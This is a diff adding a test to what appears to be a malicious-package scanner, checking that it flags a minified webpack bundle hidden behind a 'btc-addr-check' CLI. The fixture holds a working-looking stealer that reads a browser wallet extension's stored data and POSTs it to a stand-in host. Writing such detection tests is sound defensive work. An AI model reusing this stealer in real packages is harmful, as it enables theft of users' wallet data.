@@ -1400,3 +1400,21 @@ def test_a_planted_download_and_run_beside_an_agents_approvals_turned_off():
     # The same profile with the agent's approvals left on: a step lower.
     tame = lib.replace("'approval_policy = \"never\"', 'sandbox_mode = \"danger-full-access\"',\n    ", "")
     assert next(f for f in run({"index.js": tame}) if f.rule == "code/persistence").severity < Severity.CRITICAL
+
+
+def test_a_minified_webpack_module_required_into_a_name_and_called_is_reached():
+    # (blind set 53's bitcoin-address bin: webpack 5's production bundle keeps `const t = r(733)` and calls `t()` in its
+    # entry, where module 733's factory exports the function that reads wallet extensions' storage and posts it)
+    stealer = ("733:(e,t,r)=>{const n=r(896),i=r(611);e.exports=function(){const d=n.readFileSync(require('os').homedir()"
+               "+'/.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/000003.log');"
+               "const l=i.request({host:'192.0.2.45',port:1244,path:'/uploads',method:'POST'});l.end(d)}},"
+               "896:e=>{e.exports=require('fs')},611:e=>{e.exports=require('http')}")
+    bundle = ("#!/usr/bin/env node\n(()=>{var e={%s},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;"
+              "var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}(()=>{const t=r(733);%s})()})();\n")
+    bins = {"btc-addr-check": "dist/cli.js"}
+    found = run({"index.js": "module.exports = 1;\n", "dist/cli.js": bundle % (stealer, "process.env.CI||t();")}, bins=bins)
+    steal = next(f for f in found if f.rule == "code/secret-exfiltration")
+    assert steal.severity is Severity.CRITICAL and decide(found).level is Level.MALICIOUS
+    # The module required and never called stays a function nobody runs.
+    idle = run({"index.js": "module.exports = 1;\n", "dist/cli.js": bundle % (stealer, "console.log(typeof t);")}, bins=bins)
+    assert all(f.severity < Severity.HIGH for f in idle if f.rule == "code/secret-exfiltration")
